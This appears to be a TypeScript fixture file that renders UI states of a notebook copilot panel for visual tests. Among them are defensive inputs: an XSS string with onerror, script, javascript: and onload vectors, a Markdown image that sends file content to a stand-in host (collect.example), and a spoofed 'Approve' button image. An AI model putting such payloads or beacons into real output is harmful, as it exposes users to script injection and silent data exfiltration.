import type { InboxItem } from '../src/view-model/told/inbox';
import { PLAIN_POLICY } from '../src/core/state';
import type { CopilotView } from '../src/view-model/copilot-view';
import type { CellDiff, Open } from '../src/protocol';
import corpus from '../../tests/hostile/sources.json';
import { ALICE, at, BOB, chosen, KERNEL, NOW, participant, Scene, view, YOU } from './fixtures';

/** A picture that looks like a button of ours. */
const BUTTON = `data:image/svg+xml;base64,${btoa(
  '<svg xmlns="http://www.w3.org/2000/svg" width="96" height="28"><rect width="96" height="28" rx="4" fill="#1976d2"/><text x="48" y="18" fill="#fff" font-family="sans-serif" font-size="12" text-anchor="middle">Approve</text></svg>'
)}`;
const FETCHING =
  '## Result\n\n![](https://collect.example/x.png?d=the-first-line-of-a-file)\n\nThe model fits well.';
const TRAINING = Array.from(
  { length: 60 },
  (_, step) => `history.append(train(step=${step}, rate=0.01))`
).join('\n');

/** One picture of the gallery. */
export interface Exhibit {
  name: string;
  view: CopilotView;
  width?: number;
  height?: number;
  rtl?: boolean;
  /** What is shown instead of a room. */
  instead?: 'no_notebook';
  /** Clicks that lead to the state, as selectors. */
  clicks?: string[];
  /** What waits in other notebooks. */
  elsewhere?: InboxItem[];
}

const ELSEWHERE: InboxItem[] = [
  ['decision', 'work/Cleaning.ipynb', 'Delete 3 cells', true],
  ['mention', 'exam/Sheet 3.ipynb', 'Bob Meyer mentioned you', true],
  ['decision', 'exam/Sheet 3.ipynb', 'Run cell 12', false]
].map(([kind, path, title, concerns], n) => ({
  kind: kind as InboxItem['kind'],
  about: `q${n}`,
  path: path as string,
  thread_id: 'main',
  title: title as string,
  by: 'Copilot',
  at: n,
  yours: concerns as boolean,
  concerns: concerns as boolean
}));

const EDIT: CellDiff = {
  action: 'edit',
  cell_id: 'cell4',
  cell_type: 'code',
  label: 'cell 4',
  before: 'df = sns.load_dataset("penguins")\ndf["flipper_length"].hist()\n',
  after:
    'df = sns.load_dataset("penguins")\nax = sns.histplot(df, x="flipper_length_mm",\n                  hue="species", bins=24)\nax.set_xlabel("Flipper length (mm)")\n',
  above: null,
  above_after: null,
  type_before: null
};

const QUESTION = 'The histogram in cell 4 fails. Can you fix it and split it by species?';

const BARS: [string, number[]][] = [
  ['#4c9be8', [12, 30, 48, 56, 40, 20]],
  ['#f0a35e', [14, 28, 22, 12]],
  ['#63b37b', [16, 38, 52, 44, 24]]
];

function chart(): string {
  let x = 14;
  let bars = '';
  for (const [color, heights] of BARS) {
    for (const h of heights) {
      bars += `<rect x="${x}" y="${76 - h}" width="12" height="${h}" fill="${color}"/>`;
      x += 14;
    }
    x += 6;
  }
  return btoa(
    `<svg xmlns="http://www.w3.org/2000/svg" width="270" height="88" viewBox="0 0 270 88">${bars}<path d="M8 76h254" stroke="#999"/></svg>`
  );
}

const FIGURE = {
  kind: 'image',
  text: '',
  image: { mime: 'image/svg+xml', data: chart(), name: 'Histogram of flipper lengths' },
  cell_id: 'cell4'
};

const RAN = {
  effect: 'execute',
  cells: [EDIT, { ...EDIT, action: 'run', before: EDIT.after, after: null }],
  outputs: [FIGURE]
};

const OVER = { status: 'finished', outcome: 'success' } as const;

function begun(): Scene {
  return new Scene()
    .say(ALICE, at(-1), QUESTION)
    .answer(at(-1, 5), '', {
      reasoning:
        'The traceback is a KeyError: flipper_length. The frame has flipper_length_mm. A histogram with hue="species" splits it.'
    })
    .call('Read cell 4 and its error', at(-1, 8), { args: { cell_id: 'cell4' } })
    .call('Inspect `df` 344 × 7', at(-1, 9), { args: { name: 'df' } });
}

const ASKED =
  'The column is called `flipper_length_mm`. I would change the cell to a histogram per species:';

function asked(more: Partial<Open> = {}): CopilotView {
  const scene = begun()
    .answer(at(-1, 12), ASKED)
    .call(
      'Edit and run cell 4',
      at(-1, 20),
      {
        ...RAN,
        status: 'proposed',
        args: { cell_id: 'cell4', source: EDIT.after, run: true },
        outputs: []
      },
      { expires_at: NOW + 9 * 60_000, ...more }
    );
  return view(scene.state(), {
    participants: [participant(ALICE), participant(BOB, { reviewing: 'c6.q' })]
  });
}

/** Two calls of one answer, on each other's draft. */
function askedTogether(): CopilotView {
  const scene = begun()
    .answer(at(-1, 12), ASKED)
    .call(
      'Edit cell 4',
      at(-1, 20),
      { effect: 'edit', cells: [EDIT], status: 'proposed', outputs: [] },
      {}
    )
    .call(
      'Run cells 4 and 5',
      at(-1, 20),
      {
        effect: 'execute',
        cells: [{ ...EDIT, action: 'run', before: EDIT.after }],
        status: 'proposed',
        outputs: []
      },
      {}
    );
  return view(scene.state(), { participants: [participant(ALICE), participant(BOB)] });
}

function decided(more: Partial<CopilotView> = {}): CopilotView {
  const scene = begun()
    .answer(at(-1, 12), 'The column is called `flipper_length_mm`.')
    .call('Edit and run cell 4', at(-1, 20), RAN, chosen(BOB, 'approve', at(0)))
    .answer(
      at(0, 10),
      'Three groups, with Gentoo clearly apart: mean flipper length 217 mm against 190 mm (Adélie) and 196 mm (Chinstrap).',
      { status: 'streaming' }
    );
  return view(scene.state(), {
    participants: [participant(ALICE), participant(BOB, { typing: true })],
    ...more
  });
}

const FORM = {
  type: 'object',
  properties: {
    numeric: {
      type: 'string',
      title: 'Numeric columns',
      enum: ['Median per species', 'Mean per species', 'Drop the rows'],
      default: 'Median per species'
    },
    sex: {
      type: 'string',
      title: 'Rows without `sex`',
      enum: ['Keep, mark as unknown', 'Drop'],
      default: 'Keep, mark as unknown'
    }
  },
  required: ['numeric', 'sex']
};

const LONG_FORM = {
  type: 'object',
  properties: {
    name: { type: 'string', title: 'Name of the run', description: 'Shown in the table of `runs`' },
    epochs: { type: 'integer', title: 'Epochs', minimum: 1, maximum: 100, default: 10 },
    rate: { type: 'number', title: 'Learning rate', exclusiveMinimum: 0, default: 0.01 },
    shuffle: { type: 'boolean', title: 'Shuffle the rows first', default: true },
    metrics: {
      type: 'array',
      title: 'Metrics',
      items: { enum: ['accuracy', 'precision', 'recall'] },
      default: ['accuracy']
    },
    tags: { type: 'array', title: 'Tags', items: { type: 'string' }, default: ['first'] }
  },
  required: ['name', 'epochs', 'metrics']
};

function question(schema: object, title = 'Missing values'): Scene {
  return new Scene('Cleaning')
    .say(BOB, at(-3), 'Clean the missing values.')
    .answer(at(-3, 4), '')
    .call('Read 6 cells', at(-3, 5))
    .call('Inspect df', at(-3, 6))
    .answer(at(-3, 9), '11 rows miss a value; how shall I treat them?')
    .ask(title, at(-3, 12), {
      schema: schema as never,
      run_id: 'm1.r1',
      policy: PLAIN_POLICY
    });
}

function denied(scene: Scene): Scene {
  return scene.call(
    'Delete cell 7',
    at(-2),
    { effect: 'edit', status: 'finished', denied: true, is_error: true },
    chosen(ALICE, 'deny', at(-1), { comment: 'still needed for the talk' })
  );
}

const CELL7 = { kind: 'cell', cellId: 'cell7', label: 'cell 7', source: 'x = 1' } as const;

const MARKDOWN = `Here is what I found in **cell 2**, in order:

1. The file is read twice, in cell 1 and cell 3.
2. The mean is $\\bar{x} = \\frac{1}{n}\\sum_i x_i$ — missing values count as zero.

\`\`\`python
def mean(values: list[float]) -> float:
    """The mean of the values that are there."""
    known = [v for v in values if v is not None]  # a comment that is quite long, to see how it scrolls
    return sum(known) / len(known)
\`\`\`

| species | n | mean |
|---|---|---|
| Adélie | 152 | 190 |
| Gentoo | 124 | 217 |

> Only the second one changes results.

See [the documentation](https://example.org/docs) for more. ![a chart](https://example.org/pixel.png)`;

const ERROR_TEXT =
  '\u001b[0;31mKeyError\u001b[0m Traceback (most recent call last)\n\u001b[0;32m<ipython-input-4>\u001b[0m in <module>\n----> 2 df["flipper_length"].hist()\n\n\u001b[0;31mKeyError\u001b[0m: \'flipper_length\'';

const XSS =
  '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script><a href="javascript:window.hacked=1">click</a> <svg onload="window.hacked=1"></svg> **bold stays**';

const LONG = 'A very long name that nobody should have but somebody always does';

function inserted(after: string): CellDiff {
  return { ...EDIT, action: 'insert', label: 'new cell after cell 4', before: null, after };
}

function proposal(
  title: string,
  cells: CellDiff[],
  more: Partial<Open> = {},
  effect: 'edit' | 'execute' = 'execute'
): CopilotView {
  const scene = new Scene()
    .say(ALICE, at(-1), 'Go on.')
    .call(title, at(-1, 20), { effect, status: 'proposed', cells, outputs: [] }, more);
  return view(scene.state());
}

/** The corpus of hostile sources, as one card shows it. */
function hostile(): CopilotView {
  const cells = corpus.sources.map(({ name, source }, index): CellDiff => ({
    ...EDIT,
    action: 'run',
    cell_id: `hostile${index}`,
    label: name,
    before: source,
    after: null
  }));
  return proposal(`Run ${cells.length} cells`, cells);
}

export const EXHIBITS: Exhibit[] = [
  { name: 'asks', view: asked() },
  { name: 'group', view: askedTogether() },
  { name: 'decided', view: decided() },
  {
    name: 'form',
    view: view(denied(question(FORM)).state(), {
      draft: { text: '', attachments: [CELL7, { kind: 'variable', label: 'df' }] }
    })
  },
  {
    name: 'first-use',
    view: view(new Scene('Main').state(0), {
      models: [{ name: 'demo', label: '', note: '', demo: true }]
    })
  },
  {
    name: 'offline',
    view: view(
      new Scene()
        .say(BOB, at(-9), 'Median per species.', OVER)
        .answer(at(-9), 'Median per species it is. I prepared the change in cell 5.')
        .state(),
      {
        connection: { type: 'waiting', retryAt: NOW + 3000 },
        unsent: [
          {
            commandId: 'x',
            refusal: null,
            command: {
              type: 'post_message',
              message_id: 'y',
              thread_id: 'main',
              text: 'Also drop the duplicates, please.'
            } as never
          }
        ]
      }
    )
  },
  {
    name: 'in-doubt',
    view: view(
      new Scene('Training')
        .say(BOB, at(-5), 'Train it.', {
          status: 'finished',
          outcome: 'failed',
          error: {
            code: 'limit_tokens',
            message: 'the budget of 200k tokens for this run is spent.',
            hint: ''
          }
        } as never)
        .answer(at(-5), 'Training the model in cell 12.')
        .call('Run cell 12', at(-4), {
          status: 'in_doubt',
          effect: 'execute',
          at: at(-1),
          message:
            'The server restarted while it ran. It may have finished, in part or not at all, so it was not run again.'
        })
        .doubt([
          { id: 'again', label: 'Run again', style: 'danger' },
          { id: 'check', label: 'Check the kernel', style: 'danger' },
          { id: 'leave', label: 'Leave it', style: 'plain' }
        ])
        .say(ALICE, at(-1), 'And now?', {
          delay: {
            problem: { code: 'busy', message: 'The model server is busy.', hint: '' },
            attempt: 2,
            of: 4,
            retry_at: NOW + 20_000
          }
        } as never)
        .state()
    )
  },
  {
    name: 'markdown',
    view: view(
      new Scene('Reading')
        .say(BOB, at(-4), 'What is wrong here?', OVER)
        .answer(at(-4), MARKDOWN)
        .state()
    )
  },
  {
    name: 'running',
    view: view(
      begun()
        .answer(at(-1, 12), 'I run it to see the error.')
        .call(
          'Run cell 4',
          at(-1, 20),
          {
            status: 'started',
            effect: 'execute',
            started_at: NOW - 12_000,
            claim: null,
            report: null,
            outputs: [
              {
                kind: 'stdout',
                text: 'epoch 1/10  loss 0.812\nepoch 2/10  loss 0.641\n',
                image: null,
                cell_id: null
              },
              {
                kind: 'stderr',
                text: 'UserWarning: the column has gaps\n',
                image: null,
                cell_id: null
              }
            ]
          },
          chosen(ALICE, 'approve', at(-1, 25), { edited_args: { a: 1 } })
        )
        .state()
    )
  },
  {
    name: 'failed',
    view: view(
      new Scene()
        .say(ALICE, at(-2), QUESTION, {
          status: 'finished',
          outcome: 'failed',
          error: {
            code: 'model_unauthorised',
            message: 'The model server does not accept the key.',
            hint: 'Set OPENAI_API_KEY where Jupyter is started.'
          }
        } as never)
        .answer(at(-2), 'I look at the fig', {
          status: 'struck',
          reason: 'the connection to the model was lost'
        } as never)
        .call('Show cell 9', at(-2, 4), {
          effect: 'edit',
          is_error: true,
          result: { text: 'There is no cell 9: the notebook has 6.', images: [], cells: [] }
        })
        .call('Run cell 4', at(-2, 5), {
          effect: 'execute',
          outputs: [{ kind: 'error', text: ERROR_TEXT, image: null, cell_id: null }]
        })
        .state(),
      {
        connection: { type: 'signed_out' }
      }
    )
  },
  {
    name: 'empty-answer',
    view: view(
      new Scene()
        .say(ALICE, at(-2), QUESTION, {
          status: 'finished',
          outcome: 'failed',
          error: {
            code: 'empty_answer',
            message: 'The model ended without an answer.',
            hint: 'Continue to ask it once more, or choose another model.'
          }
        } as never)

        .state()
    )
  },
  {
    name: 'undone',
    view: view(
      new Scene()
        .say(ALICE, at(-4), 'Split it by species, and run it.', OVER)
        .call(
          'Edit and run cell 4',
          at(-3),
          {
            effect: 'execute',
            tool: 'edit_and_run_cell',
            cells: [EDIT],
            undone: { by: BOB, at: at(-1), outputs: 'kept' }
          },
          chosen(BOB, 'approve', at(-2))
        )
        .answer(at(-2), 'Cell 4 draws one histogram for each species.')
        .state()
    )
  },
  {
    name: 'agents',
    view: {
      ...decided(),
      agents: ['Copilot', 'Claude Code', 'Codex'].map(name => ({
        agent_id: name.toLowerCase(),
        name,
        icon: '',
        abilities: ['models', 'modes'],
        version: name === 'Claude Code' ? '0.101.0' : '',
        account: name === 'Claude Code' ? "the Anthropic account of the server's user" : '',
        missing: name === 'Codex' ? 'Not installed. npm install -g codex-acp' : ''
      }))
    },
    clicks: ['.jp-Copilot-composer .jp-Copilot-pick']
  },
  {
    name: 'outside-agent',
    view: view(
      new Scene()
        .say(ALICE, at(-3), 'Make the plot readable.', {
          agent: { kind: 'agent', id: 'claude-files', name: 'Claude Code' },
          plan: [
            { content: 'Look at the cell that plots', status: 'completed', priority: '' },
            { content: 'Move the legend out of the way', status: 'in_progress', priority: '' },
            { content: 'Run the cell again', status: 'pending', priority: '' }
          ]
        } as never)
        .answer(at(-3, 2), 'The legend covers the bars. I will move it in the style file.')
        .call('Fetch https://matplotlib.org', at(-2), {
          effect: 'execute',
          adapter: 'acp',
          confirmation_id: null
        })
        .call(
          'Write plot.mplstyle',
          at(-1),
          {
            status: 'proposed',
            effect: 'execute',
            tool: 'claude-files.edit',
            preview: {
              title: 'Write plot.mplstyle',
              cells: [],
              code: '--- plot.mplstyle\n+++ plot.mplstyle\n@@ -1 +1 @@\n-legend.loc: best\n+legend.loc: upper left',
              language: 'diff'
            }
          },
          { schema: { type: 'object', properties: {} }, expires_at: null } as never
        )
        .state()
    )
  },
  {
    name: 'queue',
    view: view(
      new Scene()
        .say(ALICE, at(-2), 'Explain cell 3.')
        .answer(at(-2, 3), 'It reads the file and', { status: 'streaming' })
        .say(BOB, at(-1), 'Then plot it.', { status: 'queued' } as never)
        .say(ALICE, at(0), 'And save the figure.', { status: 'queued' } as never)
        .state()
    )
  },
  { name: 'long-form', view: view(question(LONG_FORM, 'How shall it be trained?').state()) },
  {
    name: 'edit-arguments',
    view: asked(),
    clicks: ['.jp-Copilot-button.jp-mod-line']
  },
  { name: 'deny', view: asked(), clicks: ['.jp-Copilot-cardFoot .jp-mod-plain'] },
  {
    name: 'late',
    view: decided({
      unsent: [
        {
          commandId: 'late',
          command: {
            type: 'decide',
            confirmation_id: 'c6.q',
            option: 'deny',
            args_hash: 'h'
          } as never,
          refusal: {
            code: 'already_decided',
            message: 'Bob decided this already: Approve.',
            hint: ''
          }
        }
      ]
    })
  },
  {
    name: 'details',
    view: decided(),
    clicks: ['.jp-Copilot-callCard .jp-Copilot-more', '.jp-Copilot-fold', '.jp-Copilot-thumbnail']
  },
  {
    name: 'code-tried',
    view: {
      ...asked({ tried_by: KERNEL }),
      notice:
        'Code in “Kernel of penguins.ipynb” tried to decide “Edit and run cell 4” by itself. It was refused. Look at what ran there last.'
    }
  },
  { name: 'threads', view: asked(), clicks: ['.jp-Copilot-threads .jp-Copilot-pick'] },
  { name: 'mode', view: asked(), clicks: ['.jp-Copilot-composer .jp-Copilot-pick'] },
  {
    name: 'watcher',
    view: { ...asked(), you: { ...YOU, id: 'carol', name: 'Carol', can: ['read'] } }
  },
  {
    name: 'no-model',
    view: view(new Scene('Main').state(0), { models: [] })
  },
  { name: 'no-notebook', view: view(null), instead: 'no_notebook' },
  {
    name: 'long-names',
    width: 240,
    view: {
      ...asked(),
      notebook: 'a-very-long-notebook-name-that-does-not-fit-anywhere-at-all.ipynb',
      participants: ['x', 'y', 'z', 'u', 'v', 'w'].map(id =>
        participant({ kind: 'person', id, name: `${LONG} ${id}` }, { reviewing: 'c6.q' })
      )
    }
  },
  { name: 'narrow', width: 240, view: decided() },
  { name: 'wide', width: 620, view: asked() },
  {
    name: 'rtl',
    rtl: true,
    view: asked()
  },
  {
    name: 'untrusted',
    view: view(
      new Scene(XSS.slice(0, 60))
        .say({ ...BOB, name: XSS }, at(-3), XSS, OVER)
        .answer(at(-3), XSS)
        .call(XSS, at(-2), {
          effect: 'execute',
          outputs: [{ kind: 'result', text: XSS, image: null, cell_id: null }]
        })
        .state()
    )
  },
  {
    name: 'hostile',
    width: 620,
    height: 3050,
    view: hostile(),
    clicks: ['.jp-Copilot-unseen .jp-Copilot-link']
  },
  { name: 'unseen', view: proposal('Insert and run a cell after cell 4', [inserted(TRAINING)]) },
  {
    name: 'fetches',
    view: proposal(
      'Insert a Markdown cell after cell 4',
      [{ ...inserted(FETCHING), cell_type: 'markdown' }],
      {
        body: 'Showing this can make browsers fetch from `collect.example`, at once and without a click: whatever stands in the address is sent there.'
      },
      'edit'
    )
  },
  { name: 'elsewhere', view: proposal('Run cell 4', []), elsewhere: ELSEWHERE.slice(0, 1) },
  {
    name: 'inbox',
    view: proposal('Run cell 4', []),
    elsewhere: ELSEWHERE,
    clicks: ['.jp-Copilot-elsewhere .jp-Copilot-link']
  },
  {
    name: 'pictured',
    view: view(
      new Scene()
        .say(ALICE, at(-1), 'Draw me something.', OVER)
        .answer(at(-1, 5), `Here it is:\n\n[![Approve](${BUTTON})](https://elsewhere.example/x)`)
        .state()
    )
  }
];
